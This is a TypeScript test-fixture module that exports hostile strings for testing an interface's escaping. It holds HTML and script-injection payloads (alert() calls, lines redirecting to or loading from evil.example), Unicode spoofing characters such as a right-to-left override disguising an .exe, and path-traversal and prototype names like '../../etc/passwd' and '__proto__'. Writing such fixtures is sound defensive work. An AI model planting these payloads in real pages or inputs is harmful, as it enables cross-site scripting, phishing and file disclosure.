/**
 * Texts that attackers write into names, descriptions, results and differences.
 *
 * @module
 */

const HTML = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(2)>",
  "</pre></code><svg onload=alert(3)>",
  `"><iframe srcdoc="<script>alert(4)</script>">`,
  `' onfocus=alert(5) autofocus '`,
  "<base href=//evil.example>",
  "<form action=https://evil.example><button>Allow once</button></form>",
  "<a href=javascript:alert(6)>click</a>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
  "<link rel=stylesheet href=https://evil.example>",
  "<object data=https://evil.example></object>",
  "<template><script>alert(7)</script></template>",
  "{{constructor.constructor('alert(8)')()}}",
  "${alert(9)}",
  "&lt;script&gt;alert(10)&lt;/script&gt;",
  "]]><script>alert(11)</script>",
  "<!--><script>alert(12)</script>",
  "<details open ontoggle=alert(13)>",
  "<math><mtext></mtext><mglyph><style><img src onerror=alert(14)>",
];
const CHARACTERS = [
  "\u202egnp.exe",
  "\u2066isolated\u2069\u2067right\u2069",
  "zero\u200bwidth\u200cjoin\u200d\u2060er",
  "\ufeffbom",
  "null\u0000bell\u0007esc\u001b[31mred\u001b[0m",
  "carriage\rreturn",
  "tag\u{e0041}\u{e0042}\u{e007f}s",
  "soft\u00adhyphen",
  "line\u2028and\u2029paragraph",
  "lone \ud800 surrogate",
  "Z\u0335\u0321a\u0334\u0322l\u0335\u0323g\u0336o".repeat(20),
  "\u200f\u061cשלום\u200e",
  "variation\ufe0f\ufe0e",
  "\u3164hangul filler\u115f",
  "delete\u007f\u0085next line",
];
const NAMES = [
  "__proto__",
  "constructor",
  "toString",
  "../../etc/passwd",
  "x".repeat(5_000),
];

/** All texts. */
export const HOSTILE_TEXTS: readonly string[] = [...HTML, ...CHARACTERS, ...NAMES];
